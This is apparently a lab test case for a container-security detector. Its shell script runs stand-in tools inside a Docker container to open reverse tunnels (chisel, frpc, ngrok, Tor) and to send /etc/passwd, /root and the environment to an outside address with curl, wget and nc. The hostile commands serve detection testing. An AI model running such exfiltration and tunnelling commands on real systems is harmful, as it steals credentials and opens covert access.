# tunnels-and-data-out: reverse tunnels and Tor are opened, and accounts, keys and the environment leave by curl, netcat and wget.
# shows: the arguments and connections
# outcome: programs of the tools' names that carry nothing; the servers are this machine's own
# label: malicious
# expects: [tunnel-opened, anonymous-network-used, data-sent-out]
# allows: [engine-socket-connected, host-namespaces-shared, command-executed-in-container, shell-opened-in-container, files-copied-with-engine, remote-script-piped-to-interpreter, downloaded-program-run, package-manager-run-in-container, container-surroundings-explored, ssh-private-keys-read, password-hashes-read, environment-of-others-read]
prepare() {
    . /lab/stand_ins.sh
    outside 203.0.113.9; answer 8443; answer 9000; answer 80
    for f in chisel ngrok tor frpc torsocks; do stand_in /srv/lab/$f; done
    image_from shop/blog:2 usr/bin/chisel=/srv/lab/chisel usr/bin/ngrok=/srv/lab/ngrok usr/bin/tor=/srv/lab/tor usr/bin/frpc=/srv/lab/frpc usr/bin/torsocks=/srv/lab/torsocks /usr/bin/curl
}
act() {
    docker run -d --name blog --network host shop/blog:2 sleep 60
    if dev; then
        docker exec blog chisel client 203.0.113.9:8443 R:socks
        docker exec blog tor --SocksPort 9050
        docker exec blog curl -s -m 3 -F 'file=@/etc/passwd' http://203.0.113.9/u
        docker exec blog sh -c 'env | base64 | curl -s -m 3 -d @- http://203.0.113.9:9000/e'
    else
        docker exec blog sh -c 'nohup frpc -c /tmp/f.ini >/dev/null 2>&1'
        docker exec blog ngrok tcp 22
        docker exec blog torsocks wget -q http://203.0.113.9/
        docker exec blog sh -c 'tar c /root/ /etc/passwd 2>/dev/null | nc -w 2 203.0.113.9 9000'
        docker exec blog curl -s -m 3 --data-binary @/etc/passwd http://203.0.113.9/p
    fi
    docker rm -f blog
    true
}
restore() { . /lab/stand_ins.sh; answers_stop; docker rmi shop/blog:2; }
